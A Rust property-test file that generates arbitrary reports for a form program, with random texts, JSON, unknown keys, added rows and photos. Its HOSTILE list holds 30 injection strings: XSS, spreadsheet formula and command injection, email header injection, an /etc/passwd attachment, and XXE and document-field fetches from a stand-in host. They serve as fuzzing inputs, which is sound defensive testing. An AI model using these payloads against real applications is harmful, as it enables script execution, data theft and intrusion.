//! Any report on a form: texts that read and texts that do not, unknown keys, added rows.

use std::collections::BTreeMap;

use phuluc::domain::by_name::Kept;
use phuluc::domain::report::{AddedRow, CellAddress, HeadField, Identity, Photo, Report, SectionAnswer};
use phuluc::domain::template::{CellIndex, RowIndex, Template};
use proptest::collection::{btree_map, vec};
use proptest::option;
use proptest::prelude::*;
use serde_json::Value;

/// What people type, and what breaks out of files that are written without care.
pub const HOSTILE: [&str; 30] = [
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!-- <script>",
    "]]></textarea></title></style>",
    "&lt;b&gt; &#60; & &amp;",
    "<script type=\"application/json\" id=\"phuluc\">{\"format\":\"phuluc.report\"}</script>",
    "\u{2028}\u{2029}\u{feff}\u{0}\u{1b}\u{202e}",
    "{{constructor}} ${7*7} \\u003c \\",
    "=HYPERLINK(\"http://x\")",
    "@import url(//x); } body { background: url(//x)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "\u{a0}\u{3000}=1+1",
    "＝1+1",
    "<svg/onload=alert(1)>",
    "<base href=//x><meta http-equiv=refresh content=\"0;url=//x\">",
    "</style><style>*{background:url(//x)}</style>",
    "x\" style=\"background:url(javascript:alert(1));width:expression(alert(1))",
    "<a href=\"data:text/html,<script>alert(1)</script>\">",
    "a@b.vn?bcc=x@x.vn&attach=/etc/passwd",
    "x\r\nBcc: x@x.vn\r\n\r\n<html>",
    "x\nEND:VEVENT\nBEGIN:VALARM\nATTACH:http://x",
    "</w:t></w:r><w:instrText>INCLUDETEXT \"http://x\"</w:instrText>",
    "]]><!ENTITY x SYSTEM \"http://x\">&x;_x0000_",
];

pub fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => Just(String::new()),
        3 => prop::sample::select(vec![
            "1250", "1.250", "1 250", "1.250 người", "12,5", "0", "00", "1,250", "1.5", "12o", "-5", "12 triệu", "1e3",
            "9.007.199.254.740.991", "9007199254740992", "0,001", "1,234", "5/10/2023", "2023-10-05", "30/02/2024",
            "  ", " 12 ", "Bản Bo", "2023-1-5", "12/5",
        ])
        .prop_map(str::to_owned),
        1 => prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
        1 => "[0-9., đ/-]{1,12}",
        1 => ".{0,20}",
        1 => any::<String>(),
    ]
}

/// Any JSON, as the reader would keep it.
fn json() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        text().prop_map(Value::from),
    ];
    let tree = leaf.prop_recursive(3, 12, 4, |inner| {
        prop_oneof![
            vec(inner.clone(), 0..4).prop_map(Value::from),
            btree_map(text(), inner, 0..4).prop_map(Value::from_iter),
        ]
    });
    tree.prop_map(|value| value.to_string())
}

/// A key that no program knows, as a segment of a pointer.
fn unknown_key() -> impl Strategy<Value = String> {
    text().prop_map(|text| format!("x{}", text.replace('~', "~0").replace('/', "~1")))
}

fn kept(places: Vec<String>) -> impl Strategy<Value = Kept> {
    let pointer = (prop::sample::select(places), unknown_key()).prop_map(|(place, key)| format!("{place}/{key}"));
    btree_map(pointer, json(), 0..4).prop_map(|kept| kept.into_iter().collect())
}

fn id() -> impl Strategy<Value = String> {
    "[A-Za-z0-9_-]{1,64}"
}

fn identity() -> impl Strategy<Value = Identity> {
    let descent = (option::of(id()), vec(id(), 0..4), option::of(id()));
    (id(), 0..=4_503_599_627_370_496_u64, id(), descent).prop_map(
        |(id, revision, writer, (parent, ancestors, beside))| {
            let mut identity = Identity { id, revision, writer, parent, beside, ..Identity::default() };
            for ancestor in &ancestors {
                identity.descend_from(ancestor);
            }
            identity
        },
    )
}

type AddedTexts = (Vec<String>, String, Kept);

/// Rows to be added below each row of the form that takes some.
fn added(template: &Template) -> Vec<impl Strategy<Value = BTreeMap<String, AddedTexts>> + use<>> {
    let forms = template.rows().filter_map(|(_, row)| row.added.as_ref());
    let places = || ["", "/values"].map(str::to_owned).to_vec();
    forms.map(|form| btree_map(id(), (vec(text(), form.cells.len()), text(), kept(places())), 0..4)).collect()
}

fn answer() -> impl Strategy<Value = SectionAnswer> {
    prop_oneof![Just(SectionAnswer::NoActivity), Just(SectionAnswer::BlankIsZero)]
}

fn photos() -> impl Strategy<Value = Vec<Photo>> {
    let photo = (text(), 0..5_000_u32, 0..5_000_u32, 0..=3_000_000_u64, kept(vec![String::new()]));
    btree_map(id(), photo, 0..4).prop_map(|photos| {
        photos
            .into_iter()
            .map(|(id, (caption, width, height, bytes, kept))| Photo { id, caption, width, height, bytes, kept })
            .collect()
    })
}

/// Where this program or a newer one may have put keys that nobody here knows.
fn places(template: &Template) -> Vec<String> {
    let fixed = ["", "/values", "/head", "/notes", "/form", "/report", "/sections"].map(str::to_owned);
    let rows = template.rows().filter(|(row, _)| template.cells_of(*row).next().is_some());
    fixed.into_iter().chain(rows.map(|(_, row)| format!("/values/{}", row.id))).collect()
}

/// Any report on this form.
pub fn report(template: Template) -> impl Strategy<Value = Report> {
    let rows = template.row_count();
    let cells = vec(text(), template.cells().len());
    let texts = (vec(text(), rows), vec(text(), rows), vec(text(), HeadField::ALL.len()));
    let sections = vec(option::of(answer()), rows);
    let explanations = btree_map(prop_oneof![Just("both.a".to_owned()), text()], text(), 0..4);
    (identity(), cells, texts, sections, added(&template), kept(places(&template)), (explanations, photos())).prop_map(
        move |(identity, cells, (notes, narratives, head), sections, added, kept, (explanations, photos))| {
            let mut report = Report::new(&template, identity);
            for (index, text) in (0..).map(CellIndex).zip(&cells) {
                report.set_entry(&template, CellAddress::Fixed(index), text);
            }
            for (index, row) in template.rows() {
                report.set_note(index, &notes[index.at()]);
                if row.narrative.is_some() {
                    report.set_narrative(index, &narratives[index.at()]);
                }
                if row.section == index
                    && let Some(answer) = sections[index.at()]
                {
                    report.set_section_answer(index, Some(answer));
                }
            }
            for (field, text) in HeadField::ALL.into_iter().zip(&head) {
                report.set_head_field(field, text);
            }
            for (key, text) in explanations {
                report.set_explanation(key, &text);
            }
            let takes_rows = template.rows().filter(|(_, row)| row.added.is_some());
            takes_rows.zip(added).for_each(|((row, _), added)| put_added(&template, &mut report, row, added));
            *report.photos_mut() = photos;
            report.kept = kept;
            report
        },
    )
}

fn put_added(template: &Template, report: &mut Report, row: RowIndex, added: BTreeMap<String, AddedTexts>) {
    let form = template.row(row).added.as_ref().unwrap();
    for (index, (id, (texts, note, kept))) in added.into_iter().enumerate() {
        report.added_mut(row).unwrap().push(AddedRow { note, kept, ..AddedRow::blank(id, form) });
        for (cell, text) in texts.iter().enumerate() {
            report.set_entry(template, CellAddress::Added { row, index, cell }, text);
        }
    }
}
